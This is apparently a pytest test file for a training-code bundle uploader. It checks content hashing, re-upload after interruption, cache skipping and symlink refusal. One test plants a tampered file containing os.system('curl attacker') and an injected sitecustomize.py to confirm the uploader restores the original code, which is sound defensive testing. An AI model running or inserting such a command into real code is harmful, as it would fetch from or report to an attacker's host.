"""A code bundle's key and its upload: names and bytes make the key, and only a bundle with its marker is reused."""

from __future__ import annotations

from pathlib import Path

import pytest

from airflow_provider_trainium.code_bundle import MARKER, CodeBundleError, bundle_hash, upload_bundle
from trainium_trainer import boundary


def test_renaming_a_file_changes_the_bundles_key(tmp_path):
    code = tmp_path / "code"
    code.mkdir()
    (code / "train.py").write_text("print(1)")
    before = bundle_hash(code)
    (code / "train.py").rename(code / "main.py")  # same bytes, another name: the job would run another file
    assert bundle_hash(code) != before


def test_an_upload_cut_short_is_uploaded_again(tmp_path):
    code = tmp_path / "code"
    code.mkdir()
    (code / "a.py").write_text("a = 1")
    (code / "b.py").write_text("b = 2")
    root = (tmp_path / "artifacts").as_uri()
    shipped = tmp_path / "artifacts" / "code" / bundle_hash(code)
    (shipped / "b.py").mkdir(parents=True)  # b.py cannot be written: the upload stops after a.py
    with pytest.raises(OSError):
        upload_bundle(code, root, None)
    assert not (shipped / MARKER).exists()
    (shipped / "b.py").rmdir()
    (shipped / "a.py").write_text("a =")  # and the object it did write is partial
    assert upload_bundle(code, root, None) == f"{root}/code/{shipped.name}"
    assert (shipped / "a.py").read_text() == "a = 1" and (shipped / "b.py").read_text() == "b = 2"
    assert (shipped / MARKER).exists()


def test_a_stored_bundle_changed_after_its_upload_is_written_again_with_only_its_own_files(tmp_path):
    code = tmp_path / "code"
    code.mkdir()
    (code / "train.py").write_text("print('trained')")
    root = (tmp_path / "artifacts").as_uri()
    uri = upload_bundle(code, root, None)
    shipped = tmp_path / "artifacts" / "code" / bundle_hash(code)
    (shipped / "train.py").write_text("import os; os.system('curl attacker')")  # edited under the same key
    (shipped / "sitecustomize.py").write_text("import os")  # and a file added beside it
    assert upload_bundle(code, root, None) == uri
    assert (shipped / "train.py").read_text() == "print('trained')"
    assert sorted(p.name for p in shipped.iterdir()) == sorted(["train.py", MARKER])


def test_a_bundle_is_uploaded_once_by_content_and_skips_caches(tmp_path):
    code = tmp_path / "code"
    (code / "__pycache__").mkdir(parents=True)
    (code / "train.py").write_text("print(1)")
    (code / "__pycache__" / "train.cpython-311.pyc").write_bytes(b"\0")
    root = (tmp_path / "artifacts").as_uri()
    uri = upload_bundle(code, root, None)
    assert uri == f"{root}/code/{bundle_hash(code)}"
    shipped = Path(uri.removeprefix("file://"))
    assert sorted(p.name for p in shipped.rglob("*") if p.is_file()) == [boundary.CODE_BUNDLE_MARKER, "train.py"]
    written = (shipped / "train.py").stat().st_mtime_ns
    assert upload_bundle(code, root, None) == uri  # a complete, unchanged bundle is not written again
    assert (shipped / "train.py").stat().st_mtime_ns == written
    (code / "train.py").write_text("print(2)")
    assert upload_bundle(code, root, None) != uri  # new code, new bundle (and a new spec hash)


def test_a_symlink_in_code_dir_is_refused(tmp_path):
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "link.py").symlink_to("/etc/hostname")
    with pytest.raises(CodeBundleError, match="symlink"):
        bundle_hash(tmp_path / "code")
